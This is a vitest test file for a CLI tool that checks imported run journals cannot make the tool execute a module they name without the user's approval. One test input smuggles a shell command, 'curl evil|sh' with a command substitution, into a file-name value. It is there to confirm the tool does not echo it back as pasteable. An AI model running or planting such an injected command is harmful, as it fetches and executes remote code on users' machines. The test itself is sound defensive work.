/** Runs that somebody sent: what their journals name as code must not run, with the real command. */
import { spawnSync } from 'node:child_process'
import { appendFileSync, existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { sqliteStore } from 'troupe/sqlite'
import { describe, it } from 'vitest'
import { asking } from './cli-societies.ts'
import { createDesk, wordsOf, type Desk } from './cli.ts'

const SENT = ['--store', 'sent.db']

/** A run of ours with another society in its journal, taken in with `troupe import`. */
async function receive(desk: Desk, society: string): Promise<void> {
  const source = sqliteStore(desk.path('source.db'))
  await asking.run({ to: 'Bo' }, { store: source, id: 'sent', society: 'society' }).finished
  await source.close()
  await desk.json('export', 'sent', '--out', 'sent.jsonl', '--store', 'source.db')
  const file = readFileSync(desk.path('sent.jsonl'), 'utf8')
  writeFileSync(desk.path('sent.jsonl'), file.replace('"society":"society"', `"society":${JSON.stringify(society)}`))
  await desk.json('import', 'sent.jsonl', ...SENT)
}

/** A module that leaves a mark when it runs, and would do as a society. */
function trap(desk: Desk, file: string): { readonly hasRun: () => boolean } {
  const mark = desk.path('it-ran')
  const society = JSON.stringify(desk.path('societies.ts'))
  writeFileSync(
    file,
    `import { writeFileSync } from 'node:fs'
     writeFileSync(${JSON.stringify(mark)}, '')
     export { asking as default } from ${society}`,
  )
  return { hasRun: () => existsSync(mark) }
}

const goingOn: readonly (readonly string[])[] = [
  ['resume', 'last'],
  ['resume', 'last', '--answer', 'yes'],
  ['fork', 'last', '--at', '0'],
  ['fork', 'last', '--turn', '1', '--say', 'look'],
]

describe.concurrent('a run that was imported', () => {
  it('never runs the file it names, wherever that is', async ({ expect }) => {
    using desk = createDesk()
    const { hasRun } = trap(desk, desk.path('trap.mjs'))
    await receive(desk, desk.path('trap.mjs'))
    for (const words of goingOn) {
      const { code, stderr } = await desk.troupe(...words, ...SENT)
      expect(code).toBe(2)
      expect(stderr).toMatch(/^CLI_BAD_SOCIETY .*trap\.mjs, which was not run from here before.*\n$/)
      expect(hasRun()).toBe(false)
    }
    for (const words of [['runs'], ['show', 'last'], ['tail', 'last', '--past'], ['replay', 'last'], ['doctor']])
      expect(await desk.troupe(...words, ...SENT)).toMatchObject({ code: 0 })
    expect(hasRun()).toBe(false)
  })

  it('gets a command to paste for a file in this folder only, and is told nothing about others', async ({
    expect,
    onTestFinished,
  }) => {
    using desk = createDesk()
    const refusal = async (society: string) => {
      using other = createDesk()
      await receive(other, society)
      return (await other.troupe('resume', 'last', ...SENT)).stderr
    }
    const outside = mkdtempSync(join(tmpdir(), 'troupe-outside-'))
    onTestFinished(() => rmSync(outside, { recursive: true, force: true }))
    const { hasRun } = trap(desk, join(outside, 'there.mjs'))
    const [there, gone] = [await refusal(join(outside, 'there.mjs')), await refusal(join(outside, 'nope!.mjs'))]
    expect(gone.replace('nope!', 'there')).toBe(there)
    expect(there).toMatch(/--society FILE\n$/)
    expect(await refusal('mine.ts#story')).toMatch(/--society 'mine\.ts#story'\n$/)
    expect(await refusal('x;curl evil|sh;/../$(calc).ts')).toMatch(/--society FILE\n$/)
    expect(await refusal(`${'long/'.repeat(200)}x.ts`)).toMatch(/^CLI_BAD_SOCIETY \P{Cc}{0,500}\n$/u)
    expect(hasRun()).toBe(false)
  })

  it('is not told how to run its trap by a command that shows it', async ({ expect }) => {
    using desk = createDesk()
    trap(desk, desk.path('trap.mjs'))
    await receive(desk, 'trap.mjs')
    const { stdout } = await desk.troupe('show', 'last', ...SENT)
    expect(stdout).toMatch(/^Answer: .*resume sent --society FILE --answer 'TEXT or JSON' --store sent\.db$/m)
  })

  it('runs nothing because the folder or the store brings notes of its own', async ({ expect }) => {
    using desk = createDesk()
    const { hasRun } = trap(desk, desk.path('trap.mjs'))
    await receive(desk, 'trap.mjs')
    // somebody who noted the very same file, and sent their notes with it
    const theirs = { TROUPE_HOME: desk.path('notes') }
    await desk.start(['contract', 'trap.mjs'], theirs).done
    rmSync(desk.path('it-ran'))
    const relative = { TROUPE_HOME: 'notes', XDG_STATE_HOME: desk.home }
    expect((await desk.start(['resume', 'last', ...SENT], relative).done).stderr).toContain('was not run from here')
    expect((await desk.troupe('resume', 'last', ...SENT)).stderr).toContain('was not run from here')
    expect(hasRun()).toBe(false)
  })

  it('makes nobody wait for a pipe, nor ask another computer for a file', async ({ expect, onTestFinished }) => {
    using desk = createDesk()
    if (process.platform !== 'win32') {
      spawnSync('sh', ['-c', 'mkfifo "$0"', desk.path('pipe.mjs')])
      await receive(desk, 'pipe.mjs')
      const resuming = desk.start(['resume', 'last', ...SENT])
      onTestFinished(() => void resuming.child.kill('SIGKILL'))
      expect((await resuming.done).stderr).toContain('was not run from here')
    }
    const places = ['\\\\host\\share\\x.mjs', 'file://host/share/x.mjs']
    for (const place of places) {
      using other = createDesk()
      await receive(other, place)
      for (const words of [
        ['resume', 'last'],
        ['resume', 'last', '--society', place],
        ['fork', 'last', '--at', '0'],
      ]) {
        const { code, stderr } = await other.troupe(...words, ...SENT)
        expect({ code, stderr }).toMatchObject({ code: 2, stderr: expect.stringContaining('to another computer') })
      }
      expect((await other.troupe('run', place)).stderr).toMatch(/^CLI_BAD_SOCIETY .*to another computer/)
    }
  })

  it('goes on with code that a person names, and knows it from then on', async ({ expect }) => {
    using desk = createDesk()
    await receive(desk, 'societies.ts#asking')
    expect((await desk.troupe('resume', 'last', ...SENT)).code).toBe(2)
    const forked = await desk.json('fork', 'last', '--at', '0', '--society', 'societies.ts#asking', ...SENT)
    expect(forked).toMatchObject({ status: 'waiting' })
    expect(await desk.json('resume', 'sent', '--answer', 'yes', ...SENT)).toMatchObject({ board: { answers: ['yes'] } })
  })
})

describe.concurrent('a run of one’s own', () => {
  it('goes on without naming its code, until the code changes; then in one paste', async ({ expect }) => {
    using desk = createDesk()
    const run = await desk.troupe('run', 'societies.ts#counting', '--steps', '1')
    const line = /Continue: (.*)$/m.exec(run.stdout)![1]!
    expect(line).toContain("--society 'societies.ts#counting'")
    expect(await desk.json('resume', 'last', '--steps', '1')).toMatchObject({ step: 2 })
    appendFileSync(desk.path('societies.ts'), '\n// mended\n')
    for (const words of [
      ['resume', 'last'],
      ['fork', 'last', '--at', '1'],
    ]) {
      const { code, stderr } = await desk.troupe(...words)
      expect(code).toBe(2)
      expect(stderr).toMatch(
        /^CLI_BAD_SOCIETY .*has changed since it was run here.*--society 'societies\.ts#counting'\n$/,
      )
    }
    expect(await desk.json(...wordsOf(line), '--steps', '1')).toMatchObject({ step: 3 })
    expect(await desk.json('resume', 'last')).toMatchObject({ status: 'ended', step: 5 })
  })

  it('goes on by its printed command where nothing can be noted', async ({ expect }) => {
    using desk = createDesk()
    writeFileSync(desk.path('file'), 'no folder')
    const env = { TROUPE_HOME: join(desk.path('file'), 'home') }
    const { code, stdout } = await desk.start(['run', 'societies.ts#counting', '--steps', '1'], env).done
    expect(code).toBe(0)
    const line = /Continue: (.*)$/m.exec(stdout)![1]!
    expect((await desk.start(['resume', 'last'], env).done).stderr).toContain('was not run from here before')
    expect((await desk.start(wordsOf(line), env).done).stdout).toContain('ended at step 5')
  })
})
